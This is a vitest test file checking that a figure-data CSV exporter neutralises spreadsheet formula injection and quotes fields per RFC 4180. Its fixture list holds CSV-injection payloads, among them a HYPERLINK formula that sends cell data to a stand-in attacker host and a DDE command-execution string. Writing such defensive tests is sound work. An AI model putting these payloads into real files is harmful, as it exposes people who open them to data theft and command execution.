/**
 * The data behind each figure (figures/<id>.csv) is opened in spreadsheets: text that a
 * spreadsheet would run as a formula is neutralised as OWASP recommends for CSV export (a leading
 * '), and fields are quoted per RFC 4180, so a CR, LF, comma or quote in a study label cannot
 * split a row or shift a column. Checked by parsing the output back with an RFC 4180 parser.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { rowsToCsv } from '../../src/figures/build.ts';
import { csvField } from '../../src/format/csv.ts';

const LABELS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\uFF1D1+1',
  'Smith, J 2019',
  'a "quoted" label',
  'bare\rCR',
  'line\nbreak',
  'trailing space ',
  'Müller 2020',
];

describe('figure data CSV', () => {
  it('neutralises formula-like text and keeps one row per study (parsed back per RFC 4180)', () => {
    const rows = LABELS.map((study, i) => ({ study, tp: i, logit: -1.5 }));
    const csv = rowsToCsv(rows);
    expect(csv.endsWith('\r\n')).toBe(true);
    const parsed = parse(csv, { relax_column_count: false }) as string[][];
    expect(parsed).toHaveLength(LABELS.length + 1);
    expect(parsed[0]).toEqual(['study', 'tp', 'logit']);
    parsed.slice(1).forEach((fields, i) => {
      const label = LABELS[i]!;
      const dangerous = /^[\s]*[=+\-@\uFF1D]|^[\t\r]/.test(label);
      expect(fields, label).toEqual([dangerous ? `'${label}` : label, String(i), '-1.5']);
    });
  });

  it.each([
    ['=1+1', `"'=1+1"`],
    ['+1', `"'+1"`],
    ['-1', `"'-1"`],
    ['@A1', `"'@A1"`],
    ['\t1', `"'\t1"`],
    ['\r1', `"'\r1"`],
    ['a\rb', '"a\rb"'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['plain', 'plain'],
  ])('text %j is written as %s', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it('writes numbers, including negative ones, as numbers', () => {
    expect(csvField(-0.25)).toBe('-0.25');
    expect(csvField(1e-9)).toBe('1e-9');
    expect(csvField(null)).toBe('');
    expect(csvField(true)).toBe('true');
  });
});
